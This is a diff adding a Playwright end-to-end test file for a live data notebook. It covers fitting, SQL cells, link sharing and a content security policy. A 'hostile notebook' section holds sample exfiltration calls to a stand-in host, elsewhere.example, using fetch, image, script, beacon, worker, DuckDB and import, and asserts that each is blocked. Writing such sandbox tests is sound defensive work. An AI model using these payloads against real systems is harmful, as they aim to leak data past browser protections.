@@ -1,0 +1,193 @@
+import {mkdir, mkdtemp, writeFile} from "node:fs/promises";
+import type {Server} from "node:http";
+import {tmpdir} from "node:os";
+import {join} from "node:path";
+import type {Browser, BrowserContext, Page} from "playwright-core";
+import {chromium} from "playwright-core";
+import {afterAll, beforeAll, describe, expect, it} from "vitest";
+import {bundleNotebook} from "../../loaders/site/bundleNotebook.js";
+import {contentPolicy} from "../../loaders/site/contentPolicy.js";
+import {notebookFile, type WrittenCell} from "../../loaders/site/notebooks/notebookFile.js";
+import {serveSite} from "../../loaders/site/serve.js";
+import {packed} from "../../src/notebook/live/share.js";
+import {ols} from "../../src/notebook/engine.js";
+
+const formula = "margin ~ participation | department_id + fiscal_year";
+const rows = Array.from({length: 264}, (_, i) => {
+  const [unit, year] = [i % 24, Math.floor(i / 24)];
+  const participation = ((i * 7) % 11) / 10;
+  const margin = 0.02 * participation + unit / 100 + year / 200 + ((i * 13) % 7) / 1000;
+  return {department_id: `D${unit}`, fiscal_year: 2009 + year, participation, margin};
+});
+const study = {
+  title: "Made up",
+  measures: [],
+  currency: {label: "yen"},
+  words: {unit: {one: "department", many: "departments"}},
+  programmeYears: [2009, 2019],
+  plan: []
+};
+const script = 'import {openNotebook} from "./runtime/page.js"; openNotebook(document.querySelector("#notebook"));';
+const html = (policy: string, code: string): string =>
+  `<!doctype html><html lang="en"><head><meta http-equiv="Content-Security-Policy" content="${policy}"><meta charset="utf-8"><title>t</title><link rel="icon" href="data:,"></head><body><main><h1>t</h1><div id="notebook"></div></main><script type="module">${code}</script></body></html>`;
+
+const probe =
+  'try { document.title = "ran " + new Function("return 1")(); } catch (error) { document.title = error.name; }';
+
+let browser: Browser;
+let server: Server;
+let base: string;
+const troubles: string[] = [];
+
+beforeAll(async () => {
+  const site = await mkdtemp(join(tmpdir(), "longview-notebook-"));
+  const runtime = join(site, "notebooks/runtime");
+  await mkdir(runtime, {recursive: true});
+  await bundleNotebook(runtime);
+  const tables = {department_years: {rows, suppressed: {}}};
+  await writeFile(join(runtime, "tables.json"), JSON.stringify({version: "0", study, tables}));
+  await writeFile(join(runtime, "shipped.json"), "{}");
+  await writeFile(
+    join(runtime, "help.json"),
+    JSON.stringify({docs: [], tables: {department_years: Object.keys(rows[0]!)}})
+  );
+  await writeFile(join(site, "notebooks/live.html"), html(contentPolicy([script], {notebook: true}), script));
+  await writeFile(join(site, "index.html"), html(contentPolicy([probe]), probe));
+  server = await serveSite(site);
+  const address = server.address();
+  base = `http://localhost:${typeof address === "object" && address ? address.port : 0}`;
+  browser = await chromium.launch({
+    executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
+    args: ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
+  });
+});
+afterAll(async () => {
+  await browser.close();
+  server.close();
+});
+
+async function open(hash: string, context?: BrowserContext): Promise<Page> {
+  const page = await (context ?? (await browser.newContext())).newPage();
+  page.on("request", (request) => {
+    if (!/^(blob:)?http:\/\/localhost|^data:/.test(request.url())) troubles.push(`foreign: ${request.url()}`);
+  });
+  await page.goto(`${base}/notebooks/live.html${hash}`);
+  await page.waitForSelector(".cell");
+  return page;
+}
+
+const linkTo = async (cells: readonly WrittenCell[]): Promise<string> =>
+  `#code=${await packed(notebookFile("Shared", cells))}`;
+const runIt = (page: Page): Promise<void> => page.getByRole("button", {name: "Run this notebook"}).click();
+const failures = (page: Page): Promise<string[]> => page.locator(".cell-failure:not([hidden])").allTextContents();
+
+describe("the live notebook", () => {
+  it("fits, draws and queries what a reader writes, keeps it, shares it, and a clean profile finds the same digits", async () => {
+    const page = await open("");
+    const write = async (text: string): Promise<void> => {
+      await page.keyboard.type(text.replaceAll("\n", " "));
+      await page.keyboard.press("Shift+Enter");
+    };
+    await page.locator(".cell").nth(1).getByRole("button", {name: "Edit"}).click();
+    await page.waitForSelector(".cm-content:focus");
+    await write(`const fit = ols("${formula}", tables.department_years, {vcov: "CR2"})`);
+    await page.locator(".cell").nth(1).getByRole("button", {name: "Add a JavaScript cell below"}).click();
+    await page.locator(".cell").nth(2).locator(".cm-content").waitFor();
+    await page.locator(".cell").nth(2).locator(".cm-content").click();
+    await write("fit.term('participation').estimate");
+    const expected = String(ols(formula, rows, {vcov: "CR2"}).term("participation").estimate);
+    await page.locator(".cell").nth(2).locator(".cell-value", {hasText: expected}).waitFor();
+    await page.locator(".cell").nth(2).getByRole("button", {name: "Add a SQL cell below"}).click();
+    await page.locator(".cell").nth(3).locator(".cm-content").waitFor();
+    await page.locator(".cell").nth(3).locator(".cm-content").click();
+    await write("SELECT count(*) AS n FROM department_years");
+    await page.locator(".cell").nth(3).locator("td, th", {hasText: "264"}).waitFor();
+    await page.waitForFunction(() => location.hash.startsWith("#saved="));
+    const again = await open(await page.evaluate(() => location.hash), page.context());
+    await again.locator(".cell-value", {hasText: expected}).waitFor();
+    const file = await page.evaluate(() => {
+      const [key] = Object.keys(localStorage);
+      return (JSON.parse(localStorage.getItem(key ?? "") ?? "{}") as {file: string}).file;
+    });
+    const elsewhere = await open(`#code=${await packed(file)}`);
+    expect(await elsewhere.locator(".cell-output").allTextContents()).toEqual(["", "", "", ""]);
+    await runIt(elsewhere);
+    await elsewhere.locator(".cell-value", {hasText: expected}).waitFor();
+    await elsewhere.locator("td, th", {hasText: "264"}).waitFor();
+  });
+
+  it("says at which line a cell fails and why, and what waits for it", async () => {
+    const page = await open(
+      await linkTo([
+        {mode: "js", value: "const a = 1;\nconst b = a.foo.bar;"},
+        {mode: "js", value: "b + 1"},
+        {mode: "js", value: "tabels.department_years"},
+        {mode: "js", value: "1 +\n+"}
+      ])
+    );
+    await runIt(page);
+    await page.waitForFunction(() => document.querySelectorAll(".cell-failure:not([hidden])").length === 4);
+    const [first, second, third, fourth] = await failures(page);
+    expect(first).toMatch(/^Line 2: Cannot read properties of undefined/);
+    expect(second).toBe("waits for b, whose cell failed");
+    expect(third).toBe("Line 1: tabels is not defined; did you mean tables?");
+    expect(fourth).toMatch(/^Line 2: /);
+  });
+});
+
+describe("a hostile notebook", () => {
+  it("shows its code, and runs nothing before it is asked to", async () => {
+    const page = await open(await linkTo([{mode: "js", value: "document.title = 'taken'"}]));
+    expect(await page.locator(".cell-text").textContent()).toContain("document.title");
+    expect(await page.locator(".notebook-warning").textContent()).toContain("has not run");
+    await page.locator(".cell").getByRole("button", {name: "Run", exact: true}).click();
+    expect(await page.title()).toBe("t");
+  });
+
+  it("reaches no other origin once it runs: not by fetch, image, script, worker, nor through DuckDB", async () => {
+    const elsewhere = "https://elsewhere.example/taken";
+    const tries = [
+      `fetch("${elsewhere}").then(() => "out", () => "refused")`,
+      `new Promise((done) => { const i = new Image(); i.onload = () => done("out"); i.onerror = () => done("refused"); i.src = "${elsewhere}"; })`,
+      `new Promise((done) => { const s = document.createElement("script"); s.onload = () => done("out"); s.onerror = () => done("refused"); s.src = "${elsewhere}"; document.head.append(s); })`,
+      `navigator.sendBeacon("${elsewhere}", "x"), "refused"`,
+      `new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("${elsewhere}").then(() => postMessage("out"), () => postMessage("refused"))']))); w.onmessage = ({data}) => done(data); })`,
+      `new Promise((done) => { try { const w = new Worker("./runtime/worker.js"); w.onerror = () => done("refused"); setTimeout(() => done("out"), 2000); } catch { done("refused"); } })`,
+      `db.sql\`SELECT * FROM read_csv('${elsewhere}.csv')\`.then(() => "out", () => "refused")`,
+      `db.sql\`SET enable_external_access = true\`.then(() => "out", () => "refused")`,
+      `import("${elsewhere}.js").then(() => "out", () => "refused")`
+    ];
+    const page = await open(await linkTo(tries.map((value) => ({mode: "js", value}))));
+    const reached: string[] = [];
+    page.on("requestfinished", (request) => reached.push(request.url()));
+    await runIt(page);
+    await page.waitForFunction(
+      (count) => document.querySelectorAll(".cell-value, .cell-failure:not([hidden])").length >= count,
+      tries.length,
+      {timeout: 60_000}
+    );
+    const said = await page.locator(".cell-value, .cell-failure:not([hidden])").allTextContents();
+    expect(said.filter((text) => text === "out")).toEqual([]);
+    expect(reached.filter((url) => url.startsWith("https://elsewhere"))).toEqual([]);
+  });
+
+  it("is refused where its link is broken, endless or holds no notebook", async () => {
+    const page = await (await browser.newContext()).newPage();
+    for (const code of ["%%%", "AAAA", "a".repeat(9000)]) {
+      await page.goto(`${base}/notebooks/live.html#code=${code}`);
+      await page.reload();
+      await page.waitForSelector('#notebook [role="alert"]');
+      expect(await page.locator('#notebook [role="alert"]').textContent()).toMatch(/this link/);
+    }
+  });
+});
+
+it("eval is refused on any page that is no notebook", async () => {
+  const page = await (await browser.newContext()).newPage();
+  await page.goto(`${base}/index.html`);
+  expect(await page.title()).toBe("EvalError");
+});
+
+it("nothing was asked of another origin", () => {
+  expect(troubles.filter((url) => !url.includes("elsewhere.example"))).toEqual([]);
+});
